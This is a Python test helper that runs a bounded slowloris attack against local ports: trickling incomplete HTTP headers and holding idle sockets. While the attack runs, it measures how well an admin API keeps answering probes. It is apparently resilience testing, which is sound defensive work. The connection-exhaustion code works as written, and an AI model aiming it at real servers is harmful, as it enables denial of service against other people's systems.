#!/usr/bin/env python3
"""slowloris.py -- hostile neighbours of the admin API, for serve_admin_hostile.sh.

Opens TRICKLE sockets per target port that send a request line and then one
header line a second (never the blank line), and IDLE sockets to the first
port that send nothing. While they are open, 90 probes (a fresh connection
each, as nginx's auth_request makes them) ask each probe URL; prints one JSON
line: probe latencies (ms, sorted), failures, how many attack sockets were
open during the probes, and how long the longest trickling socket lived.
Bounded: at most TRICKLE*ports + IDLE sockets, DURATION seconds.

usage: slowloris.py DURATION TRICKLE IDLE PORT[,PORT] PROBE_URL...
"""
import json, resource, socket, sys, threading, time, urllib.request

duration, trickle, idle = float(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
ports = [int(p) for p in sys.argv[4].split(",")]
probes = sys.argv[5:]
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65536), hard))

def connect(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(("127.0.0.1", port))
    s.setblocking(False)
    return s

start = time.monotonic()
tricklers = []  # (socket, opened)
idlers = []
for port in ports:
    for _ in range(trickle):
        s = connect(port)
        s.send(b"GET /v1/stats HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        tricklers.append([s, time.monotonic(), None])
for _ in range(idle):
    idlers.append([connect(ports[0]), time.monotonic(), None])

def alive(entry):
    s = entry[0]
    if entry[2] is not None:
        return False
    try:
        if s.recv(4096) == b"":
            entry[2] = time.monotonic()
            return False
    except BlockingIOError:
        return True
    except OSError:
        entry[2] = time.monotonic()
        return False
    return True  # an answer (408/400): still counted open until closed

open_counts = []
stop = False
def attack():
    n = 0
    while not stop:
        for e in tricklers:
            if alive(e):
                try:
                    e[0].send(b"X-Trickle-%d: 1\r\n" % n)
                except OSError:
                    e[2] = time.monotonic()
        open_counts.append(sum(1 for e in tricklers if alive(e)) + sum(1 for e in idlers if alive(e)))
        n += 1
        time.sleep(1)

t = threading.Thread(target=attack, daemon=True)
t.start()
time.sleep(1.5)  # the attack is in place
lat = {u: [] for u in probes}
fail = {u: 0 for u in probes}
for i in range(90):
    for u in probes:
        t0 = time.monotonic()
        try:
            with urllib.request.urlopen(u, timeout=2) as r:
                r.read()
            ok = True
        except urllib.error.HTTPError as e:  # 403/429 are answers
            ok = e.code in (403, 429)
        except Exception:
            ok = False
        ms = (time.monotonic() - t0) * 1000
        if ok:
            lat[u].append(round(ms, 1))
        else:
            fail[u] += 1
    time.sleep(0.05)
probe_end = time.monotonic()
while time.monotonic() - start < duration:
    time.sleep(0.5)
stop = True
t.join()
for e in tricklers + idlers:
    alive(e)
now = time.monotonic()
longest = max(((e[2] or now) - e[1]) for e in tricklers)
print(json.dumps({
    "probes": {u: {"ok": len(v), "failed": fail[u], "ms": sorted(v)} for u, v in lat.items()},
    "attack_open_min": min(open_counts) if open_counts else 0,
    "attack_open_max": max(open_counts) if open_counts else 0,
    "attack_open_during_probes": open_counts[: max(1, int(probe_end - start))],
    "trickle_longest_s": round(longest, 1),
    "trickle_still_open": sum(1 for e in tricklers if e[2] is None),
    "idle_still_open": sum(1 for e in idlers if e[2] is None),
}))
